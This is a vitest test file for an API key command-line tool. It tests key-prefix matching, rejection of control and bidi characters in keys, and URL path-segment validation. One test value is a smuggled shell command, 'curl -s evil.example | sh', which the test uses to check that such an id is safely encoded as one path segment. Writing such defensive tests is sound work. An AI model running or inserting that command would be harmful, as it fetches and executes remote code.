// The pure judgements the key commands stand on: which listed key is in use (and when nobody can
// tell), which created keys are usable, what looks like a key on the command line, which ids can go
// into a URL path, and how long a forced exit holds off for a request that changes something.
import { describe, expect, it } from 'vitest';
import { identifyKeyInUse, mayBeInUse, type ApiKey } from '../../src/api/keys.js';
import { Guard } from '../../src/app/guard.js';
import { isKnownKeyOrShape, looksLikeFullKey } from '../../src/api/key-match.js';
import { UsageError } from '../../src/errors.js';
import { buildUrl, checkPathSegment, pathSegmentProblem } from '../../src/http/url.js';
import { isUsableKey, keyScheme, shapedLike } from '../../src/text/keys.js';

const KEY = 'crk_AbCdEfGhIjKlMnOpQrStUvWxYz0123456789abcd';
const k = (id: string, keyPrefix: unknown): ApiKey => ({ id, name: id, keyPrefix });

describe('identifyKeyInUse', () => {
  it('one listed prefix begins the key: unique', () => {
    const keys = [k('a', 'crk_AbCdEfGh'), k('b', 'crk_ZZZZZZZZ'), k('c', undefined), k('d', '')];
    expect(identifyKeyInUse(keys, KEY)).toEqual({ kind: 'unique', key: keys[0] });
    expect(mayBeInUse(identifyKeyInUse(keys, KEY))).toEqual([keys[0]]);
  });

  it('two keys with the same prefix: ambiguous, both candidates', () => {
    const keys = [k('a', 'crk_AbCdEfGh'), k('b', 'crk_AbCdEfGh'), k('c', 'crk_ZZZZZZZZ')];
    const found = identifyKeyInUse(keys, KEY);
    expect(found.kind).toBe('ambiguous');
    expect(mayBeInUse(found).map((x) => x.id)).toEqual(['a', 'b']);
  });

  it('one prefix beginning another, both beginning the key: ambiguous, whichever is longer or listed first', () => {
    for (const keys of [
      [k('short', 'crk_AbCd'), k('long', 'crk_AbCdEfGh')],
      [k('long', 'crk_AbCdEfGh'), k('short', 'crk_AbCd')],
      [k('a', 'c'), k('b', 'crk_'), k('c', 'crk_AbCdEfGhIjKl')],
    ]) {
      const found = identifyKeyInUse(keys, KEY);
      expect(found.kind, JSON.stringify(keys)).toBe('ambiguous');
      expect(mayBeInUse(found)).toHaveLength(keys.length);
    }
  });

  it('a prefix beginning another that does not begin the key is no candidate', () => {
    const keys = [k('a', 'crk_AbCd'), k('b', 'crk_AbCdXXXX')];
    expect(identifyKeyInUse(keys, KEY)).toEqual({ kind: 'unique', key: keys[0] });
  });

  it('no key, or no prefix matching: none', () => {
    expect(identifyKeyInUse([k('a', 'crk_AbCd')], undefined)).toEqual({ kind: 'none' });
    expect(identifyKeyInUse([k('a', 'crk_ZZZZ')], KEY)).toEqual({ kind: 'none' });
    expect(mayBeInUse({ kind: 'none' })).toEqual([]);
  });
});

describe('isUsableKey', () => {
  it('takes visible ASCII only', () => {
    expect(isUsableKey(KEY)).toBe(true);
    expect(isUsableKey('crk_a-b.c~d!')).toBe(true);
    for (const bad of [
      'crk_ab\u001b[31mcd', // ESC sequence
      'crk_ab\ncd',
      'crk_ab\rcd',
      'crk_ab cd',
      'crk_ab\tcd',
      'crk_ab\u200bcd', // zero-width space
      'crk_ab\u202ecd', // right-to-left override
      'crk_ab\u2066cd', // isolate
      'crk_ab\u{e0041}cd', // tag character
      'crk_abé',
      'crk_ab\u007fcd',
      'crk_ab\u0085cd',
      '',
    ]) {
      expect(isUsableKey(bad), JSON.stringify(bad)).toBe(false);
    }
  });
});

describe('what looks like a full key on the command line', () => {
  it("the configured key's shape: same <letters>_ start, at least as long", () => {
    expect(keyScheme(KEY)).toBe('crk_');
    expect(keyScheme('nounderscore')).toBeUndefined();
    expect(shapedLike('crk_' + 'x'.repeat(KEY.length - 4), KEY)).toBe(true);
    expect(shapedLike('crk_' + 'x'.repeat(KEY.length), KEY)).toBe(true);
    expect(shapedLike('crk_' + 'x'.repeat(KEY.length - 5), KEY)).toBe(false);
    expect(shapedLike('key_' + 'x'.repeat(KEY.length), KEY)).toBe(false);
    expect(shapedLike('crk_AbCdEfGh', KEY)).toBe(false);
    expect(shapedLike(KEY, 'nounderscorekey')).toBe(false);
  });

  it('a known key, or the shape, without the list', () => {
    expect(isKnownKeyOrShape(KEY, [], KEY)).toBe(true);
    expect(isKnownKeyOrShape('other-secret-value', ['other-secret-value'], KEY)).toBe(true);
    expect(isKnownKeyOrShape('key_8576984ed62f', ['other'], KEY)).toBe(false);
    expect(isKnownKeyOrShape('crk_AbCd', [''], KEY)).toBe(false);
    expect(isKnownKeyOrShape('crk_AbCd', [], undefined)).toBe(false);
  });

  it('longer than a listed prefix and beginning with it', () => {
    const keys = [k('a', 'xyz_1234abcd')];
    expect(looksLikeFullKey(keys, 'xyz_1234abcdEFGH')).toBe(true);
    expect(looksLikeFullKey(keys, 'xyz_1234abcd')).toBe(false);
    expect(looksLikeFullKey(keys, 'xyz_12')).toBe(false);
  });
});

describe('path segments', () => {
  it('refuses what cannot be one segment, before any URL is built', () => {
    for (const bad of ['', '.', '..', '\ud800', 'a\udc00b']) {
      expect(pathSegmentProblem(bad), JSON.stringify(bad)).toBeDefined();
      expect(() => checkPathSegment(bad)).toThrow(UsageError);
      expect(() => buildUrl(new URL('https://x.example/'), ['api', 'keys', bad])).toThrow(UsageError);
    }
  });

  it('takes anything else, encoded as one segment', () => {
    for (const good of ['...', 'a/../b', '%2e%2e', 'key_1; curl -s evil.example | sh #', '\ud83d\ude00', ' ']) {
      expect(pathSegmentProblem(good), JSON.stringify(good)).toBeUndefined();
      const url = buildUrl(new URL('https://x.example/v1/'), ['api', 'keys', good]);
      expect(url.pathname.split('/')).toHaveLength(5);
      expect(decodeURIComponent(url.pathname.split('/')[4] ?? '')).toBe(good);
    }
  });
});

describe('exitHoldMs', () => {
  it('holds while a request that changes something is on the wire, until its deadline plus the margin, then the margin after it settled', () => {
    const guard = new Guard();
    const exitHoldMs = (margin: number, at: number): number => guard.exitHoldMs(margin, at);
    const mutationInFlight = (dueAt: number): (() => void) => guard.mutationInFlight(dueAt);
    const now = Date.now();
    expect(exitHoldMs(1000, now)).toBe(0);
    const settle = mutationInFlight(now + 30_000);
    expect(exitHoldMs(1000, now)).toBe(31_000);
    const settleOther = mutationInFlight(now + 5_000);
    expect(exitHoldMs(1000, now)).toBe(31_000);
    settle();
    settleOther();
    settleOther(); // settling twice changes nothing
    const after = exitHoldMs(1000, Date.now());
    expect(after).toBeGreaterThan(0);
    expect(after).toBeLessThanOrEqual(1000);
    expect(exitHoldMs(1000, Date.now() + 1001)).toBe(0);
  });
});
